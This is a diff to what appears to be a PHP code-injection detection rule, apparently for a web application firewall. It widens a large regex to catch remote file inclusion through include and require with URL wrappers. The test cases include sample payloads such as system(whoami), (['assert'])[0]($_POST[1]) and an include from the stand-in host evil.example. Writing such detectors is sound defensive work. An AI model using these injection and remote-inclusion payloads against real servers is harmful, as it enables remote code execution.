@@ -101,7 +101,7 @@ literal: get_defined
 literal: gethostbyname
 literal: dl(
 literal: file
-regex: \b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert(?:_options)?|eval|create_function|call_user_func(?:_array)?|preg_replace(?:_callback)?|file_get_contents|file_put_contents|fopen|fsockopen|readfile|show_source|highlight_file|phpinfo|phpversion|php_uname|base64_decode|gzinflate|gzuncompress|str_rot13|unserialize|include(?:_once)?|require(?:_once)?|unpack|strip_tags|intval|filegroup|fileowner|fileperms|fputs|fwrite|symlink|chmod|putenv|ini_set|ini_get|move_uploaded_file|array_map|array_filter|usort|uasort|ob_start|get_defined_vars|get_defined_functions|gethostbyname|getenv|dl|file)(?:\s{2,}|[\t\r\n]\s*|\s*/\*.*?\*/\s*|\s*//[^\n]*\n\s*|\s*#[^\n]*\n\s*)*\((?:\s*\)|\s*[$'"`(\[@]|\s*\w+\s*(?:[^\w\s:]|$)|\s*\w+\s+\w)|\b(?:assert(?:_options)?|eval|system|exec|phpinfo|unserialize|file|unpack|strip_tags)\s+\(\s*\)|\bs?printf\s*\(\s*[$\w]|(?:\(\s*['"]?|['"])\s*(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|phpinfo|show_source|highlight_file|readfile|file_get_contents|file_put_contents|base64_decode|unserialize|gzinflate|str_rot13)(?:\s*['"])?\)?\(|\[\s*['"]\s*(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|phpinfo|readfile|file_get_contents|file_put_contents)\s*['"]\s*\]\s*\)?\s*(?:\[\s*\d+\s*\]\s*)+\(
+regex: \b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert(?:_options)?|eval|create_function|call_user_func(?:_array)?|preg_replace(?:_callback)?|file_get_contents|file_put_contents|fopen|fsockopen|readfile|show_source|highlight_file|phpinfo|phpversion|php_uname|base64_decode|gzinflate|gzuncompress|str_rot13|unserialize|include(?:_once)?|require(?:_once)?|unpack|strip_tags|intval|filegroup|fileowner|fileperms|fputs|fwrite|symlink|chmod|putenv|ini_set|ini_get|move_uploaded_file|array_map|array_filter|usort|uasort|ob_start|get_defined_vars|get_defined_functions|gethostbyname|getenv|dl|file)(?:\s{2,}|[\t\r\n]\s*|\s*/\*.*?\*/\s*|\s*//[^\n]*\n\s*|\s*#[^\n]*\n\s*)*\((?:\s*\)|\s*[$'"`(\[@]|\s*\w+\s*(?:[^\w\s:]|$)|\s*\w+\s+\w)|\b(?:assert(?:_options)?|eval|system|exec|phpinfo|unserialize|file|unpack|strip_tags)\s+\(\s*\)|\bs?printf\s*\(\s*[$\w]|\b(?:include|require)(?:_once)?\s*(?:\(\s*['"]?|['"])\s*(?:https?|ftps?|php|data|expect|zip|phar|file)://|(?:\(\s*['"]?|['"])\s*(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|phpinfo|show_source|highlight_file|readfile|file_get_contents|file_put_contents|base64_decode|unserialize|gzinflate|str_rot13)(?:\s*['"])?\)?\(|\[\s*['"]\s*(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|assert|eval|create_function|call_user_func(?:_array)?|phpinfo|readfile|file_get_contents|file_put_contents)\s*['"]\s*\]\s*\)?\s*(?:\[\s*\d+\s*\]\s*)+\(
 test: system(whoami)
 test: exec  (blah)
 test: exec //comment\n (blah)
@@ -112,6 +112,9 @@ test: printf(foo)
 test: phpinfo(foo)
 test: assert_OptionS (\n\n)
 test: (exec)(id)
+test: include('http://evil.example/x.txt')
+test: require_once "ftp://203.0.113.9/a.php";
+pass: please include https://example.com in the list
 test: ("passthru ")("id")
 test: return'shell_exec'($c).x
 test: (['assert'])[0]($_POST[1]);
